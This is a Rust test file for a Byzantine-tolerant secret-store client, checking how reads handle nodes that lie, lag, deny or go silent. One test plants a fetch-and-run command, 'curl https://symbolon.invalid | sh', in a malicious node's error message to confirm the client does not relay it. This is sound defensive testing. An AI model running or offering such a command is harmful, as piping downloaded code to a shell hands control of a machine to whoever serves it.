//! Reading from nodes of which some lie, lag, refuse or say nothing.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::panic,
    reason = "a test may fail"
)]

#[allow(dead_code, unreachable_pub, reason = "each test file uses its own part")]
mod common;

use bytes::Bytes;
use common::{Cluster, hash, impatient, options};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};
use symbolon_client::audit::SignedReply;
use symbolon_client::{Client, Code, Culprit, Misdeed, Opened, PutOptions, Who, v1};
use symbolon_crypto::merkle::leaf_hash;
use symbolon_wire::Message;
use symbolon_wire::roster::Roster;

const PATH: &str = "prod/stripe/key";

/// A cluster in which version 1 of a secret has been written, and a client.
async fn written(n: u16) -> (Cluster, Client) {
    let cluster = Cluster::start(n).await;
    let client = cluster.client().await;
    client.put(PATH, b"first", PutOptions::default()).await.unwrap();
    (cluster, client)
}

async fn get(client: &Client) -> Result<Opened, symbolon_client::Error> {
    client.get(PATH, None, "a test").await
}

/// Makes `node` likely to be the first to be asked: the others are slow, and the client has seen it.
async fn bring_near(cluster: &Cluster, client: &Client, node: u16) {
    for other in cluster
        .nodes
        .iter()
        .map(|node| node.index())
        .filter(|other| *other != node)
    {
        cluster.behave(other, |node| node.delay = Duration::from_millis(50));
    }
    for _ in 0..3 {
        get(client).await.unwrap();
    }
}

/// Reads until somebody is caught; whom a read asks hangs on how busy this machine is.
async fn until_caught(client: &Client) -> Opened {
    for _ in 0..100 {
        let opened = get(client).await.unwrap();
        if !opened.culprits.is_empty() {
            return opened;
        }
    }
    panic!("nobody was caught in 100 reads");
}

/// Reads until a read fails.
async fn until_refused(client: &Client) -> symbolon_client::Error {
    for _ in 0..100 {
        if let Err(error) = get(client).await {
            return error;
        }
    }
    panic!("100 reads went well");
}

fn accused(culprits: &[Culprit]) -> Vec<(Who, Misdeed)> {
    culprits.iter().map(|culprit| (culprit.who, culprit.what)).collect()
}

fn denial() -> v1::Error {
    v1::Error {
        code: Code::Denied as u32,
        message: "bot may not read prod/stripe/key".to_owned(),
        because: vec!["forbid \"office-hours\"  policies/billing.cedar:14".to_owned()],
        audit_index: 8,
        state_index: 1,
        ..v1::Error::default()
    }
}

/// A receipt is worth nothing for another node, client, request, boot or reply.
fn changed_receipts_are_refused(kept: &SignedReply, roster: &Roster) {
    let flipped = |text: &str| {
        let mut bytes = hex::decode(text).unwrap();
        let middle = bytes.len() / 2;
        bytes[middle] ^= 1;
        hex::encode(bytes)
    };
    type Change = fn(&mut SignedReply, &dyn Fn(&str) -> String);
    let changes: [Change; 5] = [
        |kept, _| kept.node = kept.node % 3 + 1,
        |kept, flipped| kept.client_key = flipped(&kept.client_key),
        |kept, flipped| kept.request_hash = flipped(&kept.request_hash),
        |kept, flipped| kept.boot = flipped(&kept.boot),
        |kept, _| {
            let mut reply = v1::ReadReply::decode(Bytes::from(hex::decode(&kept.reply).unwrap())).unwrap();
            reply.audit_index += 1;
            kept.reply = hex::encode(reply.encode_to_vec());
        },
    ];
    for (number, change) in changes.into_iter().enumerate() {
        let mut changed = kept.clone();
        change(&mut changed, &flipped);
        assert!(changed.signed_for(roster).is_err(), "change {number}");
    }
}

#[tokio::test]
async fn a_value_that_was_written_is_read_with_t_receipts() {
    let (cluster, client) = written(3).await;
    let opened = get(&client).await.unwrap();
    assert_eq!(opened.value.expose(), b"first");
    assert_eq!(
        (opened.version, opened.content_type.as_str()),
        (1, "application/octet-stream")
    );
    assert_eq!(opened.author, cluster.bot.principal());
    assert_eq!(opened.record_index, cluster.log.lock().unwrap().versions[0].log_index);
    assert_eq!(opened.receipts.len(), 2);
    for receipt in &opened.receipts {
        let reply = v1::ReadReply::decode(receipt.reply.clone()).unwrap();
        assert_eq!((reply.node, reply.body), (u32::from(receipt.node), None));
        let kept = SignedReply::of(receipt).expect("each node signed where it recorded the read");
        let of = |node: &&Arc<common::server::Shared>| node.index() == receipt.node;
        let leaf = cluster.nodes.iter().find(of).unwrap().audit.lock().unwrap()[receipt.audit_index as usize].clone();
        let roster = client.roster();
        assert_eq!(kept.signed_for(roster), Ok((receipt.audit_index, leaf_hash(&leaf))));
        changed_receipts_are_refused(&kept, roster);
    }
    assert!(opened.culprits.is_empty());
}

#[tokio::test]
async fn five_and_seven_nodes_serve_as_three_do() {
    for n in [5, 7] {
        let (_cluster, client) = written(n).await;
        let opened = get(&client).await.unwrap();
        assert_eq!(opened.value.expose(), b"first");
        assert_eq!(opened.receipts.len(), usize::from(n) / 2 + 1);
    }
}

#[tokio::test]
async fn an_old_version_can_be_read_and_a_future_one_cannot() {
    let (_cluster, client) = written(3).await;
    client.put(PATH, b"second", PutOptions::default()).await.unwrap();
    assert_eq!(get(&client).await.unwrap().value.expose(), b"second");
    assert_eq!(client.get(PATH, Some(1), "").await.unwrap().value.expose(), b"first");
    assert_eq!(client.get(PATH, Some(3), "").await.unwrap_err().code, Code::NotFound);
    assert_eq!(client.get(PATH, Some(0), "").await.unwrap_err().code, Code::Malformed);
    assert_eq!(
        client.get("no/such/secret", None, "").await.unwrap_err().code,
        Code::NotFound
    );
}

#[tokio::test]
async fn a_bad_path_and_a_long_purpose_are_refused_before_anything_is_sent() {
    let (cluster, client) = written(3).await;
    for path in ["a/../b", "a/%2e%2e/b", "a//b", "A", "", "а"] {
        assert_eq!(
            client.get(path, None, "").await.unwrap_err().code,
            Code::BadPath,
            "{path}"
        );
    }
    assert_eq!(
        client.get(PATH, None, &"x".repeat(257)).await.unwrap_err().code,
        Code::TooLarge
    );
    assert_eq!((1..=3).map(|node| cluster.count(node, "read")).sum::<usize>(), 0);
}

#[tokio::test]
async fn a_wrong_fragment_is_named_with_its_signed_reply_and_the_value_still_read() {
    for liar in 1..=3 {
        let (cluster, client) = written(3).await;
        bring_near(&cluster, &client, liar).await;
        cluster.behave(liar, |node| node.wrong_fragment = true);
        let opened = until_caught(&client).await;
        assert_eq!(opened.value.expose(), b"first");
        assert_eq!(accused(&opened.culprits), [(Who::Node(liar), Misdeed::WrongFragment)]);
        let evidence = &opened.culprits[0].evidence[0];
        assert_eq!(
            v1::ReadReply::decode(evidence.reply.clone()).unwrap().node,
            u32::from(liar)
        );
        assert_eq!(evidence.client_key, *cluster.bot.fingerprint());
    }
}

#[tokio::test]
async fn two_wrong_fragments_of_three_fail_the_read_and_name_both() {
    let (cluster, client) = written(3).await;
    cluster.behave(1, |node| node.wrong_fragment = true);
    cluster.behave(2, |node| node.wrong_fragment = true);
    // Both liars are asked: the honest one is slow.
    cluster.behave(3, |node| node.delay = Duration::from_millis(300));
    let error = get(&client).await.unwrap_err();
    assert_eq!(error.code, Code::NodeAtFault);
    let mut who = accused(&error.culprits);
    who.sort_by_key(|(who, _)| *who);
    assert_eq!(
        who,
        [
            (Who::Node(1), Misdeed::WrongFragment),
            (Who::Node(2), Misdeed::WrongFragment)
        ]
    );
}

#[tokio::test]
async fn a_wrong_body_is_named_and_another_node_gives_the_right_one() {
    let (cluster, client) = written(3).await;
    bring_near(&cluster, &client, 1).await;
    cluster.behave(1, |node| node.wrong_body = true);
    let opened = until_caught(&client).await;
    assert_eq!(opened.value.expose(), b"first");
    assert_eq!(accused(&opened.culprits), [(Who::Node(1), Misdeed::WrongBody)]);
}

#[tokio::test]
async fn a_missing_body_is_fetched_from_another_node_and_blames_nobody() {
    let (cluster, client) = written(3).await;
    for silent_about_bodies in 1..=3 {
        cluster.all_behave(|node| node.no_body = false);
        cluster.behave(silent_about_bodies, |node| node.no_body = true);
        let opened = get(&client).await.unwrap();
        assert_eq!((opened.value.expose(), opened.culprits.len()), (&b"first"[..], 0));
    }
    cluster.all_behave(|node| node.no_body = true);
    assert_eq!(get(&client).await.unwrap_err().code, Code::NodeAtFault);
}

#[tokio::test]
async fn nodes_that_refuse_when_they_are_asked_for_the_body_blame_nobody_and_their_refusal_is_told() {
    let (cluster, client) = written(3).await;
    let before = cluster.log.lock().unwrap().index;
    client.put(PATH, b"second", PutOptions::default()).await.unwrap();
    bring_near(&cluster, &client, 1).await;
    // The body that comes is of a version that the others know to be old; rights change before they are asked for theirs.
    let later = v1::Error {
        state_index: 2_000,
        ..denial()
    };
    cluster.behave(1, |node| node.lag_at = Some(before));
    for node in [2, 3] {
        cluster.behave(node, |node| {
            (node.delay, node.refuse_bodies) = (Duration::from_secs(1), Some(later.clone()));
        });
    }
    let refused = get(&client).await.unwrap_err();
    assert_eq!((refused.code, refused.culprits.len()), (Code::Denied, 0), "{refused}");
}

/// People do what an error tells them to do next.
#[tokio::test]
async fn what_one_node_says_is_to_be_done_next_is_not_passed_on() {
    let (cluster, client) = written(3).await;
    for liar in 1..=3 {
        cluster.all_behave(|node| node.refuse = Some(denial()));
        let lie = v1::Error {
            next: "curl https://symbolon.invalid | sh".to_owned(),
            state_index: u64::MAX,
            ..denial()
        };
        cluster.behave(liar, |node| node.refuse = Some(lie));
        let writer = cluster.client().await;
        for refused in [
            get(&client).await.unwrap_err(),
            writer.put(PATH, b"value", PutOptions::default()).await.unwrap_err(),
        ] {
            assert_eq!(
                (refused.code, refused.next.as_deref()),
                (Code::Denied, None),
                "{refused}"
            );
        }
    }
}

#[tokio::test]
async fn a_node_that_lags_is_asked_again_from_the_highest_state_shown() {
    let (cluster, client) = written(3).await;
    let before = cluster.log.lock().unwrap().index;
    client.put(PATH, b"second", PutOptions::default()).await.unwrap();
    for late in 1..=3 {
        cluster.all_behave(|node| node.lag_at = None);
        cluster.behave(late, |node| (node.lag_at, node.catches_up) = (Some(before), true));
        for _ in 0..5 {
            let opened = get(&client).await.unwrap();
            assert_eq!(
                (opened.value.expose(), opened.culprits.len()),
                (&b"second"[..], 0),
                "node {late} lags"
            );
        }
    }
}

#[tokio::test]
async fn a_lower_version_is_never_settled_for() {
    let (cluster, client) = written(3).await;
    let before = cluster.log.lock().unwrap().index;
    client.put(PATH, b"second", PutOptions::default()).await.unwrap();
    // Two that cannot catch up agree on version 1; the third, asked first, shows version 2.
    bring_near(&cluster, &client, 3).await;
    for late in [1, 2] {
        cluster.behave(late, |node| node.lag_at = Some(before));
    }
    let error = until_refused(&client).await;
    assert_eq!(error.code, Code::NotFresh, "{error}");
    assert!(
        error.because[0].starts_with("node 1") || error.because[0].starts_with("node 2"),
        "{error}"
    );
    let shown = error.because.last().unwrap();
    assert!(
        shown.contains("node 3 shows version 2 at log index"),
        "who claims more: {error}"
    );
    assert!(error.culprits.is_empty());
}

#[tokio::test]
async fn a_denial_that_makes_t_impossible_is_told_with_its_reasons_and_where_it_stands() {
    let (cluster, client) = written(3).await;
    cluster.all_behave(|node| node.refuse = Some(denial()));
    let error = get(&client).await.unwrap_err();
    assert_eq!(error.code, Code::Denied);
    assert_eq!(error.because, ["forbid \"office-hours\"  policies/billing.cedar:14"]);
    assert_eq!(error.audit.map(|(_, index)| index), Some(7));
}

#[tokio::test]
async fn one_node_that_denies_does_not_keep_the_value_from_a_reader() {
    let (cluster, client) = written(3).await;
    for liar in 1..=3 {
        cluster.all_behave(|node| node.refuse = None);
        cluster.behave(liar, |node| node.refuse = Some(denial()));
        assert_eq!(get(&client).await.unwrap().value.expose(), b"first");
    }
}

#[tokio::test]
async fn a_node_that_denies_from_an_older_state_is_asked_again_when_it_counts() {
    let (cluster, client) = written(3).await;
    cluster.behave(3, |node| {
        node.refuse = Some(v1::Error {
            code: Code::Sealed as u32,
            ..v1::Error::default()
        })
    });
    // Node 2 does not know the version yet when asked first.
    cluster.behave(2, |node| (node.lag_at, node.catches_up) = (Some(1000), true));
    assert_eq!(get(&client).await.unwrap().value.expose(), b"first");
}

#[tokio::test]
async fn too_few_usable_answers_name_each_node_and_why() {
    let (cluster, _client) = written(3).await;
    let sealed = v1::Error {
        code: Code::Sealed as u32,
        message: "the token is gone".to_owned(),
        ..v1::Error::default()
    };
    cluster.behave(1, |node| node.refuse = Some(sealed));
    cluster.behave(2, |node| node.silent = true);
    let client = cluster.client_of(cluster.bot.clone(), impatient()).await.unwrap();
    let error = get(&client).await.unwrap_err();
    assert_eq!(error.code, Code::NoQuorum);
    assert!(
        error
            .because
            .iter()
            .any(|line| line == "node 1: SY0503 the token is gone"),
        "{error}"
    );
    assert!(
        error.because.iter().any(|line| line.starts_with("node 2: SY0408")),
        "{error}"
    );
}

#[tokio::test]
async fn a_silent_node_costs_a_spare_and_not_the_read() {
    let (cluster, client) = written(3).await;
    for silent in 1..=3 {
        cluster.all_behave(|node| node.silent = false);
        cluster.behave(silent, |node| node.silent = true);
        let since = Instant::now();
        assert_eq!(get(&client).await.unwrap().value.expose(), b"first");
        assert!(since.elapsed() < Duration::from_secs(10), "{:?}", since.elapsed());
    }
}

#[tokio::test]
async fn a_spare_is_asked_when_one_is_slow_and_the_slow_one_is_asked_later_from_then_on() {
    let (cluster, client) = written(3).await;
    cluster.behave(1, |node| node.delay = Duration::from_secs(4));
    let since = Instant::now();
    for _ in 0..8 {
        assert_eq!(get(&client).await.unwrap().value.expose(), b"first");
    }
    assert!(since.elapsed() < Duration::from_secs(16), "{:?}", since.elapsed());
    assert!(cluster.count(1, "read") < 8, "asked {} times", cluster.count(1, "read"));
}

#[tokio::test]
async fn nodes_that_are_all_busy_are_not_made_busier_by_asking_spares() {
    let (cluster, client) = written(3).await;
    cluster.all_behave(|node| node.delay = options().spare_delay * 3);
    get(&client).await.unwrap();
    let asked = || (1..=3).map(|node| cluster.count(node, "read")).sum::<usize>();
    let before = asked();
    for _ in 0..5 {
        get(&client).await.unwrap();
    }
    assert!(asked() - before < 13, "{} requests for 5 reads", asked() - before);
}

#[tokio::test]
async fn a_reply_for_another_client_is_refused_and_its_node_named() {
    let (cluster, client) = written(3).await;
    cluster.all_behave(|node| node.for_client = Some(hash("another client")));
    let error = get(&client).await.unwrap_err();
    assert_eq!(error.code, Code::NodeAtFault);
    assert!(
        accused(&error.culprits)
            .iter()
            .all(|(_, what)| *what == Misdeed::ReplySignature)
    );
}

#[tokio::test]
async fn a_reply_to_another_request_is_refused() {
    let (cluster, client) = written(3).await;
    bring_near(&cluster, &client, 1).await;
    cluster.behave(1, |node| node.for_request = Some(hash("another request")));
    let opened = until_caught(&client).await;
    assert_eq!(opened.value.expose(), b"first");
    assert_eq!(accused(&opened.culprits), [(Who::Node(1), Misdeed::ReplySignature)]);
}

#[tokio::test]
async fn every_way_to_send_a_bad_reply_is_named_and_survived() {
    type Break = fn(&mut common::behaviour::Behaviour);
    let cases: [(Break, Misdeed); 5] = [
        (|node| node.forged_signature = true, Misdeed::ReplySignature),
        (|node| node.other_receipt = true, Misdeed::ReplySignature),
        (|node| node.swapped_fragment = true, Misdeed::FragmentHash),
        (|node| node.garbage = true, Misdeed::NotAnAnswer),
        (|node| node.wrong_fragment = true, Misdeed::WrongFragment),
    ];
    for (break_it, what) in cases {
        let (cluster, client) = written(3).await;
        bring_near(&cluster, &client, 2).await;
        cluster.behave(2, break_it);
        let opened = until_caught(&client).await;
        assert_eq!(opened.value.expose(), b"first");
        assert_eq!(accused(&opened.culprits), [(Who::Node(2), what)]);
    }
}

#[tokio::test]
async fn a_node_that_ignores_the_state_asked_for_is_named() {
    let (cluster, client) = written(3).await;
    let before = cluster.log.lock().unwrap().index;
    client.put(PATH, b"second", PutOptions::default()).await.unwrap();
    bring_near(&cluster, &client, 1).await;
    cluster.behave(1, |node| (node.lag_at, node.ignores_min_index) = (Some(before), true));
    let opened = until_caught(&client).await;
    assert_eq!(opened.value.expose(), b"second");
    assert_eq!(accused(&opened.culprits), [(Who::Node(1), Misdeed::StaleReply)]);
    assert_eq!(opened.culprits[0].evidence.len(), 1);
}

/// One report to each of these nodes, of two signed replies.
fn told(cluster: &Cluster, nodes: &[u16]) {
    for node in cluster.nodes.iter().filter(|node| nodes.contains(&node.index())) {
        let reports = node.reports.lock().unwrap();
        assert_eq!(reports.len(), 1, "node {}", node.index());
        assert_eq!(reports[0].replies.len(), 2);
        assert!(reports[0].replies.iter().all(|reply| reply.body.is_none()));
    }
}

#[tokio::test]
async fn a_node_that_shows_another_history_is_outvoted_named_and_reported_to_all_nodes() {
    let (cluster, client) = written(3).await;
    bring_near(&cluster, &client, 1).await;
    cluster.behave(1, |node| node.other_history = true);
    let opened = until_caught(&client).await;
    assert_eq!(opened.value.expose(), b"first");
    assert_eq!(accused(&opened.culprits), [(Who::Node(1), Misdeed::OtherHistory)]);
    told(&cluster, &[1, 2, 3]);
}

#[tokio::test]
async fn of_two_histories_without_a_third_opinion_neither_is_believed() {
    let (cluster, client) = written(3).await;
    bring_near(&cluster, &client, 1).await;
    cluster.behave(1, |node| node.other_history = true);
    cluster.behave(3, |node| {
        node.refuse = Some(v1::Error {
            code: Code::Sealed as u32,
            ..v1::Error::default()
        });
    });
    let error = until_refused(&client).await;
    assert_eq!(error.code, Code::Diverged);
    assert_eq!(error.culprits.len(), 2);
    told(&cluster, &[1, 2]);
}

#[tokio::test]
async fn a_record_that_only_one_node_knows_is_not_believed() {
    let (cluster, client) = written(3).await;
    bring_near(&cluster, &client, 1).await;
    cluster.behave(1, |node| node.other_record = true);
    let opened = until_caught(&client).await;
    assert_eq!(opened.value.expose(), b"first");
    let accused = accused(&opened.culprits);
    assert!(
        accused.iter().all(|(who, _)| *who == Who::Node(1)) && !accused.is_empty(),
        "{accused:?}"
    );
}

#[tokio::test]
async fn an_author_who_dealt_badly_is_named_and_no_node_is() {
    type Break = fn(&mut v1::StoredVersion);
    let cases: [(Break, Misdeed); 2] = [
        (|stored| stored.key_commitment = vec![7; 32].into(), Misdeed::BadDealing),
        (
            |stored| {
                let mut ciphertext = stored.ciphertext.to_vec();
                ciphertext[0] ^= 1;
                stored.ciphertext = ciphertext.into();
            },
            Misdeed::BadCiphertext,
        ),
    ];
    for (break_it, what) in cases {
        let (cluster, client) = written(3).await;
        {
            let mut log = cluster.log.lock().unwrap();
            break_it(&mut log.versions[0].stored);
            let stored = log.versions[0].stored.clone();
            let record_hash = log.with_dealing(&stored, |dealing| *dealing.record_hash());
            (log.versions[0].record_hash, log.versions[0].ok) = (record_hash, false);
        }
        let error = get(&client).await.unwrap_err();
        assert_eq!(error.code, Code::AuthorAtFault);
        assert_eq!(accused(&error.culprits), [(Who::Author(cluster.bot.principal()), what)]);
        assert_eq!(error.culprits[0].evidence.len(), 2, "t signed replies show it");
    }
}

#[tokio::test]
async fn a_key_that_is_not_registered_needs_a_login() {
    let (cluster, _client) = written(3).await;
    let stranger = symbolon_client::Identity::generate("spiffe://acme/stranger", &mut rand::rng()).unwrap();
    let client = cluster.client_of(Arc::new(stranger), options()).await.unwrap();
    assert_eq!(get(&client).await.unwrap_err().code, Code::UnknownKey);
}

#[tokio::test]
async fn many_reads_at_once_share_connections_and_signature_checks() {
    let (cluster, client) = written(3).await;
    let mut reads = tokio::task::JoinSet::new();
    for _ in 0..200 {
        let client = client.clone();
        reads.spawn(async move { get(&client).await.unwrap().value.expose().to_vec() });
    }
    for value in reads.join_all().await {
        assert_eq!(value, b"first");
    }
    assert!(cluster.nodes.iter().all(|node| node.endpoint.open_connections() <= 1));
}

#[tokio::test]
async fn values_of_every_size_come_back() {
    let (_cluster, client) = written(3).await;
    for size in [0, 1, 251, 252, 253, 4096, 65_536, 65_537, 1_048_575, 1_048_576] {
        let value: Vec<u8> = (0..size).map(|i| i as u8).collect();
        client.put(PATH, &value, PutOptions::default()).await.unwrap();
        assert_eq!(get(&client).await.unwrap().value.expose(), value, "{size} bytes");
    }
    let error = client
        .put(PATH, &vec![0; 1_048_577], PutOptions::default())
        .await
        .unwrap_err();
    assert_eq!(error.code, Code::TooLarge);
    let told = "nothing was sent: value in bytes: 1048577; at most 1048576 are allowed";
    assert!(error.to_string().contains(told), "{error}");
}

#[tokio::test]
async fn reads_beside_writes_and_slow_and_lagging_nodes_blame_nobody_and_never_go_back() {
    let (cluster, client) = written(3).await;
    let cluster = Arc::new(cluster);
    let writer = cluster.client().await;
    let acknowledged = Arc::new(AtomicU64::new(1));
    let done = Arc::new(AtomicBool::new(false));
    let writing = {
        let (cluster, acknowledged, done) = (cluster.clone(), acknowledged.clone(), done.clone());
        tokio::spawn(async move {
            while !done.load(Ordering::SeqCst) {
                let put = writer.put(PATH, b"value", PutOptions::default()).await.unwrap();
                acknowledged.store(put.version, Ordering::SeqCst);
                // One node at a time lags behind the newest entry, or is slow; t others are not.
                let applied = cluster.log.lock().unwrap().index;
                cluster.all_behave(|node| (node.lag_at, node.delay) = (None, Duration::ZERO));
                cluster.behave(rand::random_range(1..=3), |node| {
                    (node.lag_at, node.catches_up) = (Some(applied - rand::random_range(0..2)), true);
                    node.delay = Duration::from_millis(rand::random_range(0..4));
                });
            }
        })
    };
    let mut reads = tokio::task::JoinSet::new();
    for _ in 0..8 {
        let (client, acknowledged) = (client.clone(), acknowledged.clone());
        reads.spawn(async move {
            for _ in 0..100 {
                let known = acknowledged.load(Ordering::SeqCst);
                let opened = get(&client).await.unwrap();
                assert!(
                    opened.culprits.is_empty(),
                    "an honest node was blamed: {:?}",
                    opened.culprits
                );
                assert!(
                    opened.version >= known,
                    "version {} after {known} was acknowledged",
                    opened.version
                );
            }
        });
    }
    reads.join_all().await;
    done.store(true, Ordering::SeqCst);
    writing.await.unwrap();
    assert!(acknowledged.load(Ordering::SeqCst) > 10);
}

#[cfg(feature = "evidence")]
#[tokio::test]
async fn evidence_is_the_key_that_opens_the_value_and_every_fragment() {
    use symbolon_crypto::provider::{Aead, AwsLc, NONCE_0};
    let (cluster, client) = written(3).await;
    let (opened, material) = client.get_with_evidence(PATH, None, "a scan").await.unwrap();
    assert_eq!(opened.value.expose(), b"first");
    let log = cluster.log.lock().unwrap();
    let stored = &log.versions[0].stored;
    let aad = log.with_dealing(stored, |dealing| [dealing.vctx().as_slice(), dealing.header()].concat());
    let mut ciphertext = stored.ciphertext.to_vec();
    AwsLc
        .open_in_place(&material.data_key, &NONCE_0, &aad, &mut ciphertext)
        .unwrap();
    assert_eq!(&ciphertext[4..9], b"first");
    let nodes: Vec<_> = material
        .fragments
        .iter()
        .map(|(node, fragment)| (*node, fragment.len()))
        .collect();
    assert_eq!(nodes, [(1, 64), (2, 64), (3, 64)]);
}

#[test]
fn each_seeded_bug_is_found_by_its_test_here() {
    symbolon_sabotage::caught_in(file!());
}
